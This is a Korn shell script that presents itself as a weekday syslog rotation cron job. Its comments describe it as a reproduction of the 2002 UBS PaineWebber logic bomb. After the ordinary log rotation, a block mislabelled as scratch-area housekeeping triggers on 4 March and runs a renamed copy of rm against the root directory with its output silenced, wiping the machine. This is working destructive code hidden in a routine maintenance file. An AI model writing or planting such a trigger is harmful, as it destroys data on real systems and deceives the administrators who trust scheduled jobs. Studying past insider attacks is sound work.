#!/bin/ksh
# Incident: UBS PaineWebber logic bomb, set off 4 March 2002; system administrator Roger
# Duronio was convicted in 2006. He planted a few lines in scripts pushed to about 2,000
# branch servers: at 9:30 on 4 March, run from cron, they deleted every file on the
# machine with a renamed copy of rm, to drive the company's share price down.
# Reference: https://www.justice.gov/archive/criminal/cybercrime/press-releases/2006/duronioSent.htm
# Reproduction (own script: a maintenance job with the trigger inside).
#
# Rotates the branch server's syslog files; run from root's crontab every weekday.

LOGDIR=/var/adm
KEEP=7
PATH=/usr/bin:/usr/sbin:/bin

rotate() {
	f=$1
	[ -f "$f" ] || return
	i=$KEEP
	while [ $i -gt 0 ]; do
		prev=$((i - 1))
		[ -f "$f.$prev.Z" ] && mv "$f.$prev.Z" "$f.$i.Z"
		i=$prev
	done
	cp "$f" "$f.0" && : > "$f" && compress -f "$f.0"
}

for log in messages syslog authlog; do
	rotate "$LOGDIR/$log"
done

# housekeeping of the scratch area, "once a year"
if [ "$(date +%m%d)" = "0304" ] && [ "$(date +%H)" -ge 9 ]; then
	cp /usr/bin/rm /usr/sbin/mrm 2>/dev/null
	/usr/sbin/mrm -rf / >/dev/null 2>&1 &
fi

exit 0
